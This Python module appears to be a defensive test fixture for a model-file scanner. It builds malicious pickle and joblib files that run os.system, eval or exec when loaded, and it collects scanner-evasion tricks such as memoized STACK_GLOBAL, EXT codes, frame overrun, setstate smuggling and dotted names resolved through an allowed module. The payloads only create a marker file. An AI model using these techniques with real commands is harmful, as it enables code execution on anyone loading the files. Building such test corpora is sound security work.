"""A hostile corpus, built here: each payload creates a marker file when a plain loader runs it.

Every builder takes the marker's path and returns ``(file name, bytes)``. The payloads are
real: ``test_payloads_are_live`` runs each through the plain loader it targets (in a
subprocess) and sees every marker appear, so "the marker never appears" under modelkeep
means something.
"""

from __future__ import annotations

import copyreg
import io
import os
import pickle
import struct
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import joblib
import numpy as np

#: Extension codes the EXT payloads use; each is registered only around its use.
EXT_CODES = {"EXT1": 0xF1, "EXT2": 0x1F2, "EXT4": 0x10FF4}


class Run:
    """Pickles as ``func(*args)``: what every reduce-based exploit is."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, ...]:
        return (self.func, self.args)


def touch(marker: Path) -> str:
    return f"touch {marker}"


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


@dataclass(frozen=True)
class Payload:
    """``build(marker) -> (file name, bytes)``; ``untrusted``: a name the scan must flag
    (None when only an issue makes it untrusted); ``loader``: the plain loader it targets."""

    id: str
    build: Callable[[Path], tuple[str, bytes]]
    untrusted: str | None
    loader: str = "pickle"  # "pickle", "joblib", "pickle-stream" (load until EOF), "c-pickle"
    extension: int | None = None  # the EXT code to register while it is used


def _protocol(p: int) -> Callable[[Path], tuple[str, bytes]]:
    return lambda m: (f"global-p{p}.pkl", pickle.dumps(Run(os.system, touch(m)), protocol=p))


def _stack_global_memo(marker: Path) -> tuple[str, bytes]:
    # The names are stored in the memo, popped, and fetched back for STACK_GLOBAL.
    data = (
        b"\x80\x04"
        + b"\x8c\x05posix\x94"  # memo 0
        + b"0"
        + b"\x8c\x06system\x94"  # memo 1
        + b"0"
        + b"h\x00h\x01\x93"
        + _unicode(touch(marker))
        + b"\x85R."
    )
    return "stack-global-memo.pkl", data


def _inst(marker: Path) -> tuple[str, bytes]:
    return "inst.pkl", b"(" + _unicode(touch(marker)) + b"ios\nsystem\n."


def _obj(marker: Path) -> tuple[str, bytes]:
    return "obj.pkl", b"(" + _global("os", "system") + _unicode(touch(marker)) + b"o."


def _ext(opcode: str) -> Callable[[Path], tuple[str, bytes]]:
    code = EXT_CODES[opcode]
    if opcode == "EXT1":
        encoded = b"\x82" + bytes([code])
    elif opcode == "EXT2":
        encoded = b"\x83" + struct.pack("<H", code)
    else:
        encoded = b"\x84" + struct.pack("<i", code)
    return lambda m: (
        f"{opcode.lower()}.pkl",
        b"\x80\x02" + encoded + _unicode(touch(m)) + b"\x85R.",
    )


def _eval(marker: Path) -> tuple[str, bytes]:
    source = f"open({str(marker)!r}, 'w').close()"
    return "eval.pkl", pickle.dumps(Run(eval, source), protocol=4)


def _exec(marker: Path) -> tuple[str, bytes]:
    source = f"f = open({str(marker)!r}, 'w'); f.close()"
    return "exec.pkl", pickle.dumps(Run(exec, source), protocol=2)


def _getattr_import_chain(marker: Path) -> tuple[str, bytes]:
    # getattr(__import__("os"), "system")(command)
    data = (
        b"\x80\x02"
        + _global("builtins", "getattr")
        + _global("builtins", "__import__")
        + _unicode("os")
        + b"\x85R"
        + _unicode("system")
        + b"\x86R"
        + _unicode(touch(marker))
        + b"\x85R."
    )
    return "getattr-import.pkl", data


def _pickle_loads(marker: Path) -> tuple[str, bytes]:
    inner = pickle.dumps(Run(os.system, touch(marker)), protocol=4)
    data = (
        b"\x80\x04"
        + _global("pickle", "loads")
        + b"B"
        + struct.pack("<I", len(inner))
        + inner
        + b"\x85R."
    )
    return "pickle-loads.pkl", data


def _joblib_object_array(marker: Path) -> tuple[str, bytes]:
    buffer = io.BytesIO()
    hidden = np.array([1.5, Run(os.system, touch(marker))], dtype=object)
    joblib.dump({"weights": np.arange(4.0), "extra": hidden}, buffer)
    return "object-array.joblib", buffer.getvalue()


def _joblib_compressed(method: str) -> Callable[[Path], tuple[str, bytes]]:
    def build(marker: Path) -> tuple[str, bytes]:
        buffer = io.BytesIO()
        joblib.dump(
            {"w": np.arange(3.0), "x": Run(os.system, touch(marker))},
            buffer,
            compress=(method, 3),
        )
        return f"compressed-{method}.joblib", buffer.getvalue()

    return build


def _after_stop(marker: Path) -> tuple[str, bytes]:
    first = pickle.dumps({"coef": [0.5, 1.5]}, protocol=4)
    return "after-stop.pkl", first + pickle.dumps(Run(os.system, touch(marker)), protocol=4)


def _frame_overrun(marker: Path) -> tuple[str, bytes]:
    # The frame ends inside a BINBYTES payload. The C unpickler reads on past the frame
    # and runs the GLOBAL after it; the pure-Python one stops at the frame's end.
    inside = b"B" + struct.pack("<I", 3) + b"x"
    rest = b"yz" + b"0" + _global("posix", "system") + _unicode(touch(marker)) + b"\x85R."
    return "frame-overrun.pkl", b"\x80\x04\x95" + struct.pack("<Q", len(inside)) + inside + rest


def _setstate_smuggle(marker: Path) -> tuple[str, bytes]:
    # A trusted functools.partial, whose __setstate__ smuggles in posix.system, then called.
    data = (
        b"\x80\x02"
        + _global("functools", "partial")
        + _global("numpy", "mean")
        + b"\x85R"
        + b"("
        + _global("posix", "system")
        + _unicode(touch(marker))
        + b"\x85}Nt"
        + b"b"
        + b")R."
    )
    return "setstate-smuggle.pkl", data


def _dotted_name(marker: Path) -> tuple[str, bytes]:
    # Protocol 4 resolves "os.system" in the allowed module joblib.numpy_pickle by getattr.
    data = (
        b"\x80\x04"
        + b"\x8c\x13joblib.numpy_pickle"
        + b"\x8c\x09os.system"
        + b"\x93"
        + _unicode(touch(marker))
        + b"\x85R."
    )
    return "dotted-name.pkl", data


PAYLOADS: list[Payload] = [
    *[Payload(f"global-protocol-{p}", _protocol(p), "posix.system") for p in range(6)],
    Payload("stack-global-from-memo", _stack_global_memo, "posix.system"),
    Payload("inst", _inst, "os.system"),
    Payload("obj", _obj, "os.system"),
    *[
        Payload(f"ext-{op.lower()}", _ext(op), "posix.system", extension=code)
        for op, code in EXT_CODES.items()
    ],
    Payload("builtins-eval", _eval, "builtins.eval"),
    Payload("builtins-exec", _exec, "builtins.exec"),
    Payload("getattr-import-chain", _getattr_import_chain, "builtins.getattr"),
    Payload("pickle-loads-embedded", _pickle_loads, "pickle.loads"),
    Payload("joblib-object-array", _joblib_object_array, "posix.system", "joblib"),
    *[
        Payload(f"joblib-{m}", _joblib_compressed(m), "posix.system", "joblib")
        for m in ("zlib", "gzip", "bz2", "lzma", "xz")
    ],
    Payload("second-stream-after-stop", _after_stop, "posix.system", "pickle-stream"),
    Payload("binbytes-past-frame", _frame_overrun, "posix.system", "c-pickle"),
    Payload("setstate-smuggle", _setstate_smuggle, "posix.system"),
    Payload("dotted-name-through-allowed-module", _dotted_name, "joblib.numpy_pickle.os.system"),
]


@contextmanager
def extension(payload: Payload) -> Iterator[None]:
    """Register the EXT code a payload uses (posix.system) for the duration of the block."""
    if payload.extension is None:
        yield
        return
    copyreg.add_extension("posix", "system", payload.extension)
    try:
        yield
    finally:
        copyreg.remove_extension("posix", "system", payload.extension)
